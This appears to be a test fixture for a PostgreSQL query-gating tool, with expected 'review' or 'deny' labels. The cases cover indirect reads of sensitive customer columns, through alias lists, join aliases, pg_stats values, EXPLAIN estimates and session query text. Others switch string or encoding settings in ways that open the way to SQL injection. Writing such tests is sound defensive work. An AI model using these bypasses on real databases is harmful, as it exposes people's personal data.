MERGE INTO orders o
USING (VALUES (1)) AS v(id)
ON o.id = v.id
WHEN MATCHED AND EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.email LIKE 'a%') THEN
    UPDATE SET status = 'flagged';

-- expect: review | unwalked-clause: VALUES row with a subquery over ssn, sorted and limited
VALUES (1, (SELECT ssn FROM customers WHERE id = 1)) ORDER BY 1 LIMIT 1;

-- expect: review | unwalked-clause: function in FROM whose argument is a subquery over email
SELECT * FROM regexp_split_to_table((SELECT email FROM customers WHERE id = 1), '@') AS parts;

-- expect: review | alias-list: join alias list j(a, n, e, p, s): e is customers.email
SELECT j.e FROM (customers CROSS JOIN (SELECT 1) x) AS j(a, n, e, p, s) LIMIT 1;

-- expect: review | alias-list: join alias list used only in WHERE: s is customers.ssn
SELECT j.a FROM (customers CROSS JOIN (SELECT 1) x) AS j(a, n, e, p, s) WHERE j.s LIKE '9%' LIMIT 1;

-- expect: review | alias-list: table alias list c(a, b, c2): c2 is email
SELECT c.c2 FROM customers AS c(a, b, c2) WHERE c.a = 1;

-- expect: review | alias-list: table alias list c(a, b, c2, d): d is phone, used only in ORDER BY
SELECT c.a FROM customers AS c(a, b, c2, d) ORDER BY c.d LIMIT 5;

-- expect: review | alias-list: alias list on crm.notes: z is body
SELECT z FROM crm.notes AS n(x, y, z) WHERE x = 1;

-- expect: review | alias-list: unnest alias list u(x) over an array aggregated from ssn
SELECT u.x FROM (SELECT array_agg(ssn) AS a FROM customers) s, unnest(s.a) AS u(x) LIMIT 1;

-- expect: review | alias-list: ROWS FROM alias list: e is the unnest of email
SELECT t.e FROM customers c CROSS JOIN LATERAL ROWS FROM (unnest(ARRAY[c.id]), unnest(ARRAY[c.email])) AS t(i, e) LIMIT 1;

-- expect: review | alias-list: unnest WITH ORDINALITY alias list: v carries phone
SELECT u.v FROM customers c CROSS JOIN LATERAL unnest(ARRAY[c.country, c.phone]) WITH ORDINALITY AS u(v, n) WHERE u.n = 2 LIMIT 1;

-- expect: review | alias-list: VALUES alias v(x) joined to customers; the join alias list makes n the name
SELECT j.n FROM ((VALUES (1)) AS v(x) JOIN customers c ON c.id = v.x) AS j(a, b, n);

-- expect: review | alias-list: LATERAL VALUES alias v(x) holds email
SELECT v.x FROM customers c CROSS JOIN LATERAL (VALUES (c.email)) AS v(x) LIMIT 1;

-- expect: review | alias-list: CTE column list t(a, b): b is email
WITH t(a, b) AS (SELECT id, email FROM customers) SELECT b FROM t;

-- expect: review | alias-list: CTE column list over SELECT *: b is name
WITH t(a, b) AS (SELECT * FROM customers) SELECT t.b FROM t LIMIT 1;

-- expect: review | alias-list: CTE column list renames ssn to id; the outer filter uses it
WITH t(id) AS (SELECT ssn FROM customers) SELECT count(*) FROM t WHERE id LIKE '9%';

-- expect: review | alias-list: join with USING and an alias list: the merged id comes first, so e is email
SELECT j.e FROM (customers JOIN orders USING (id)) AS j(i, n, e) LIMIT 1;

-- expect: review | alias-list: USING (created_at) puts created_at first, so f is ssn (not country)
SELECT j.f FROM (customers JOIN orders USING (created_at)) AS j(a, b, c, d, e, f) LIMIT 1;

-- expect: review | alias-list: alias list on a derived table joined to orders: y is phone
SELECT s.y FROM (SELECT id, phone FROM customers) AS s(x, y) JOIN orders o ON o.customer_id = s.x LIMIT 1;

-- expect: review | alias-list: unqualified e of a join alias list is customers.email
SELECT e FROM (customers CROSS JOIN (SELECT 1) x) AS j(a, n, e) LIMIT 1;

-- expect: review | alias-list: unqualified join alias list column used only in WHERE: e is email
SELECT count(*) FROM (customers CROSS JOIN (SELECT 1) x) AS j(a, b, e) WHERE e LIKE '%@example.com';

-- expect: review | alias-list: join alias list over "AuditLog": m is "Email"
SELECT j.m FROM ("AuditLog" CROSS JOIN (SELECT 1) x) AS j(i, m) LIMIT 1;

-- expect: review | alias-list: join alias list over crm.notes JOIN customers: b is crm.notes.body
SELECT j.b FROM (crm.notes JOIN customers ON customers.id = crm.notes.customer_id) AS j(i, c, b) LIMIT 1;

-- expect: review | alias-list: join alias list in an inner subquery, read by the outer query under another name
SELECT s.v FROM (SELECT j.p AS v FROM (customers CROSS JOIN (SELECT 1) x) AS j(a, n, e, p)) s LIMIT 1;

-- expect: review | join-alias-hides: NATURAL JOIN of customers and orders with an alias list: the join columns id, created_at come first, so f is ssn
SELECT j.f FROM (customers NATURAL JOIN orders) AS j(a, b, c, d, e, f) LIMIT 1;

-- expect: review | join-alias-hides: j.* over a join alias includes every customers column
SELECT j.* FROM (customers JOIN orders USING (id)) j LIMIT 1;

-- expect: review | join-alias-hides: whole-row j of a join alias carries the tagged columns
SELECT j FROM (customers JOIN orders USING (id)) j LIMIT 1;

-- expect: review | join-alias-hides: j.email through an aliased ON join (the alias hides the table)
SELECT j.email FROM (orders o JOIN customers c ON c.id = o.customer_id) AS j LIMIT 1;

-- expect: review | join-alias-hides: j.phone of an aliased join used only in WHERE
SELECT j.id FROM (customers JOIN orders USING (id)) j WHERE j.phone IS NULL LIMIT 1;

-- expect: review | join-alias-hides: NATURAL JOIN whose only common column is the tagged "Email"
SELECT count(*) FROM "AuditLog" NATURAL JOIN (SELECT 'user1@example.com' AS "Email") v;

-- expect: review | join-alias-hides: NATURAL JOIN of two derived tables sharing email
SELECT x.id FROM (SELECT id, email FROM customers) x NATURAL JOIN (SELECT 1 AS id, email FROM customers) y;

-- expect: review | join-alias-hides: JOIN ... USING (...) AS u exposes the tagged join column name
SELECT u.name FROM customers a JOIN customer_contacts b USING (id, name) AS u LIMIT 1;

-- expect: review | join-alias-hides: nested join aliases: k(a, x) makes x the name
SELECT k.x FROM ((customers JOIN orders USING (id)) AS j JOIN crm.notes n ON n.customer_id = j.id) AS k(a, x) LIMIT 1;

-- expect: review | join-alias-hides: the merged email column of a FULL JOIN ... USING
SELECT email FROM customers FULL JOIN customer_contacts USING (email) LIMIT 1;

-- expect: deny | lexing-setting: SET standard_conforming_strings = off
SET standard_conforming_strings = off;

-- expect: deny | lexing-setting: SET LOCAL standard_conforming_strings TO off
SET LOCAL standard_conforming_strings TO off;

-- expect: deny | lexing-setting: SET SESSION standard_conforming_strings = false
SET SESSION standard_conforming_strings = false;

-- expect: deny | lexing-setting: quoted setting name and value "standard_conforming_strings" = 'off'
SET "standard_conforming_strings" = 'off';

-- expect: deny | lexing-setting: standard_conforming_strings TO 0
SET standard_conforming_strings TO 0;

-- expect: deny | lexing-setting: mixed-case setting name Standard_Conforming_Strings
SET Standard_Conforming_Strings = OFF;

-- expect: deny | lexing-setting: set_config('standard_conforming_strings', 'off', false)
SELECT set_config('standard_conforming_strings', 'off', false);

-- expect: deny | lexing-setting: set_config of standard_conforming_strings, transaction-local, schema-qualified
SELECT pg_catalog.set_config('standard_conforming_strings', 'off', true);

-- expect: deny | lexing-setting: UPDATE pg_settings changes the setting through the view's rule
UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';

-- expect: deny | lexing-setting: set_config with the setting name from pg_settings (not a literal)
SELECT set_config(name, 'off', true) FROM pg_settings WHERE name = 'standard_conforming_strings';

-- expect: deny | lexing-setting: setting standard_conforming_strings off, then a statement in the same string
SET standard_conforming_strings = off; SELECT id FROM orders WHERE status = 'x';

-- expect: deny | lexing-setting: role default standard_conforming_strings = off applies to later sessions
ALTER ROLE CURRENT_USER SET standard_conforming_strings = off;

-- expect: deny | lexing-setting: database default standard_conforming_strings = off applies to later sessions
ALTER DATABASE app SET standard_conforming_strings = off;

-- expect: deny | lexing-setting: a prepared set_config of standard_conforming_strings, executed
PREPARE lex AS SELECT set_config('standard_conforming_strings', 'off', false); EXECUTE lex;

-- expect: deny | lexing-setting: SET client_encoding = 'SJIS' (second bytes can be 0x5C, a backslash)
SET client_encoding = 'SJIS';

-- expect: deny | lexing-setting: SET client_encoding TO 'BIG5'
SET client_encoding TO 'BIG5';

-- expect: deny | lexing-setting: SET client_encoding = 'GBK'
SET client_encoding = 'GBK';

-- expect: deny | lexing-setting: SET client_encoding = 'GB18030'
SET client_encoding = 'GB18030';

-- expect: deny | lexing-setting: SET client_encoding = 'SHIFT_JIS_2004'
SET client_encoding = 'SHIFT_JIS_2004';

-- expect: deny | lexing-setting: SET client_encoding = 'UHC'
SET client_encoding = 'UHC';

-- expect: deny | lexing-setting: unquoted encoding name johab
SET client_encoding TO johab;

-- expect: deny | lexing-setting: alias 'Shift_JIS' of SJIS
SET client_encoding = 'Shift_JIS';

-- expect: deny | lexing-setting: alias 'win932' of SJIS
SET client_encoding = 'win932';

-- expect: deny | lexing-setting: alias 'mskanji' of SJIS
SET client_encoding = 'mskanji';

-- expect: deny | lexing-setting: alias 'windows936' of GBK (PostgreSQL has no cp936)
SET client_encoding = 'windows936';

-- expect: deny | lexing-setting: alias 'win949' of UHC, SET SESSION form
SET SESSION client_encoding = 'win949';

-- expect: deny | lexing-setting: alias 'Big-5' with punctuation (PostgreSQL ignores non-alphanumerics)
SET client_encoding = 'Big-5';

-- expect: deny | lexing-setting: alias 'Shift-JIS-2004'
SET client_encoding = 'Shift-JIS-2004';

-- expect: deny | lexing-setting: SET NAMES is SET client_encoding
SET NAMES 'SJIS';

-- expect: deny | lexing-setting: SET LOCAL client_encoding to GBK
SET LOCAL client_encoding = 'GBK';

-- expect: deny | lexing-setting: set_config('client_encoding', 'big5', true)
SELECT set_config('client_encoding', 'big5', true);

-- expect: deny | lexing-setting: set_config with a mixed-case setting name Client_Encoding
SELECT set_config('Client_Encoding', 'GBK', false);

-- expect: deny | lexing-setting: UPDATE pg_settings sets client_encoding
UPDATE pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding';

-- expect: deny | lexing-setting: a harmless encoding, then SJIS, in one string
SET client_encoding = 'UTF8'; SET client_encoding = 'SJIS';

-- expect: deny | lexing-setting: SET client_encoding = 'SJIS' in its own committed transaction [no-tx]
BEGIN; SET client_encoding = 'SJIS'; COMMIT; RESET client_encoding;

-- expect: review | statistics-values: most_common_vals of customers
SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers';

-- expect: review | statistics-values: histogram_bounds of customers.ssn, schema-qualified pg_catalog.pg_stats
SELECT attname, histogram_bounds FROM pg_catalog.pg_stats WHERE tablename = 'customers' AND attname = 'ssn';

-- expect: review | statistics-values: most_common_elems of customers
SELECT attname, most_common_elems FROM pg_stats WHERE tablename = 'customers';

-- expect: review | statistics-values: SELECT * FROM pg_stats
SELECT * FROM pg_stats;

-- expect: review | statistics-values: whole-row s of pg_stats
SELECT s FROM pg_stats s WHERE s.tablename = 'customers';

-- expect: review | statistics-values: to_jsonb of a pg_stats row
SELECT to_jsonb(s) FROM pg_stats s WHERE s.tablename = 'customers' AND s.attname = 'email';

-- expect: review | statistics-values: TABLE pg_stats
TABLE pg_stats;

-- expect: review | statistics-values: quoted "pg_stats" and "most_common_vals"
SELECT "most_common_vals" FROM "pg_catalog"."pg_stats" WHERE "tablename" = 'customers';

-- expect: review | statistics-values: histogram_bounds renamed in a derived table
SELECT x.hb FROM (SELECT histogram_bounds AS hb FROM pg_stats WHERE tablename = 'customers') x;

-- expect: review | statistics-values: most_common_vals cast to text[] and unnested
SELECT unnest(most_common_vals::text::text[]) FROM pg_stats WHERE tablename = 'notes' AND attname = 'body';

-- expect: review | statistics-values: most_common_vals of extended statistics (pg_stats_ext)
SELECT statistics_name, most_common_vals FROM pg_stats_ext WHERE tablename = 'customers';

-- expect: review | statistics-values: most_common_vals of expression statistics (pg_stats_ext_exprs)
SELECT expr, most_common_vals, histogram_bounds FROM pg_stats_ext_exprs WHERE tablename = 'customers';

-- expect: review | statistics-values: stavalues1 of pg_statistic [superuser]
SELECT staattnum, stavalues1 FROM pg_statistic WHERE starelid = 'customers'::regclass;

-- expect: review | long-identifier: a non-ASCII identifier over 63 bytes is truncated by the server's encoding
SELECT 1 AS "éééééééééééééééééééééééééééééééééééééééé";

-- expect: review | long-identifier: a long non-ASCII alias of a tagged-looking expression
SELECT count(*) AS "üüüüüüüüüüüüüüüüüüüüüüüüüüüüüüüüü" FROM orders;

-- expect: review | long-identifier: a long non-ASCII table alias
SELECT "ßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßß".id FROM orders AS "ßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßßß";

-- expect: review | explain-oracle: EXPLAIN's row estimate for a range on ssn answers questions about its values
EXPLAIN SELECT id FROM customers WHERE ssn < '93';

-- expect: review | explain-oracle: estimates of a join filtered on email
EXPLAIN (FORMAT JSON) SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email LIKE 'a%';

-- expect: review | explain-oracle: a filter on phone in a subquery of the select list
EXPLAIN SELECT (SELECT count(*) FROM customers WHERE phone > '555') FROM orders;

-- expect: review | other-sessions-text: other sessions' statements carry their literals
SELECT query FROM pg_stat_activity;

-- expect: review | other-sessions-text: every column of pg_stat_activity includes query
SELECT * FROM pg_stat_activity WHERE state = 'active';

-- expect: review | other-sessions-text: this session's prepared statements' texts
SELECT statement FROM pg_prepared_statements;

-- expect: review | other-sessions-text: open cursors' texts
SELECT name, statement FROM pg_cursors;

-- expect: review | function-lineage: a PL/pgSQL function whose body reads customers.email
SELECT contact_of(1);

-- expect: review | function-lineage: the same function in FROM
SELECT * FROM public.contact_of(2);

-- expect: review | function-lineage: the function's value only compared in WHERE
SELECT id FROM orders WHERE contact_of(customer_id) LIKE 'a%' LIMIT 1;

-- expect: review | function-lineage: a view over the function
SELECT * FROM order_contacts WHERE id = 3;

-- expect: review | function-lineage: a view over the function, its untagged columns only
SELECT id, status FROM order_contacts WHERE id = 3;

-- expect: review | function-lineage: named-argument notation
SELECT contact_of(cid => 4);
